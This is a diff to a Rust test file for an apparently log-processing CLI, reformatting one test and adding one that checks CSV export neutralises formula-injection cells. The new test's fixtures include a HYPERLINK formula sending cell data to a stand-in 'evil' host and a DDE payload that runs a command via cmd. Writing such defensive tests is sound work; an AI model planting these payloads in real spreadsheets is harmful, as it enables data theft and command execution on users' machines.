@@ -516,12 +516,18 @@ fn no_output_carries_unsafe_characters() {
         let err = stderr(&o);
         assert!(!err.chars().any(unsafe_char), "{args:?} stderr: {err:?}");
         if args.contains(&"--json") {
-            for line in out.lines().filter(|l| l.starts_with('{') && l.ends_with('}')) {
+            for line in out
+                .lines()
+                .filter(|l| l.starts_with('{') && l.ends_with('}'))
+            {
                 serde_json::from_str::<Value>(line).unwrap();
             }
             if args[0] == "summary" {
                 let v: Value = serde_json::from_str(&out).unwrap();
-                assert!(v.to_string().contains('\u{202e}'), "summary --json lost data");
+                assert!(
+                    v.to_string().contains('\u{202e}'),
+                    "summary --json lost data"
+                );
             }
         }
     }
@@ -552,4 +558,100 @@ fn regex_lite_strip_sgr(s: &str) -> String {
         out.push(c);
     }
     out
+}
+
+// 8. CSV formula injection.
+
+/// Parses CSV with python3's csv module: the rows as JSON.
+fn python_csv(text: &str) -> Vec<Vec<String>> {
+    use std::io::Write;
+    let mut child = Command::new("python3")
+        .args([
+            "-c",
+            "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))",
+        ])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("python3 runs");
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(text.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success());
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("f.jsonl");
+    let now = jiff::Timestamp::now()
+        .strftime("%Y-%m-%dT%H:%M:%S%.6fZ")
+        .to_string();
+    let cells = [
+        "=HYPERLINK(\"http://evil/\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\tlead",
+        "\rlead",
+        "-5",
+        "plain",
+    ];
+    let mut text = String::new();
+    for (i, c) in cells.iter().enumerate() {
+        let v = serde_json::json!({
+            "timestamp": now, "event_type": "x.y", "schema_version": "1",
+            "user": c, "source": "s", "details": {"container": format!("c{i}"), "k": c},
+        });
+        text.push_str(&v.to_string());
+        text.push('\n');
+    }
+    std::fs::write(&file, text).unwrap();
+    let neutral = |c: &str| -> String {
+        let shown = c.replace('\t', "\\t").replace('\r', "\\r");
+        if c == "-5" || c == "plain" {
+            shown
+        } else {
+            format!("'{shown}")
+        }
+    };
+    for o in [
+        run(&file, &["-o", "csv", "--all"]),
+        run(&file, &["--output=csv", "--all"]),
+    ] {
+        assert!(o.status.success(), "{}", stderr(&o));
+        let rows = python_csv(&stdout(&o));
+        assert_eq!(rows.len(), cells.len() + 1);
+        let user = rows[0].iter().position(|h| h == "user").unwrap();
+        let k = rows[0].iter().position(|h| h == "k").unwrap();
+        for (row, c) in rows[1..].iter().zip(cells) {
+            assert_eq!(row[user], neutral(c), "{c:?}");
+            assert_eq!(row[k], neutral(c), "{c:?}");
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                        && (!cell.starts_with('-') || cell == "-5"),
+                    "{cell:?}"
+                );
+            }
+        }
+    }
+    // The bare values stay available (control characters still escaped).
+    let o = run(&file, &["-o", "csv-bare", "--all"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rows = python_csv(&stdout(&o));
+    let user = rows[0].iter().position(|h| h == "user").unwrap();
+    for (row, c) in rows[1..].iter().zip(cells) {
+        assert_eq!(row[user], c.replace('\t', "\\t").replace('\r', "\\r"));
+    }
+    let info = stdout(&run(&file, &["--info"]));
+    assert!(
+        info.contains("csv-bare"),
+        "--info does not document csv-bare"
+    );
 }
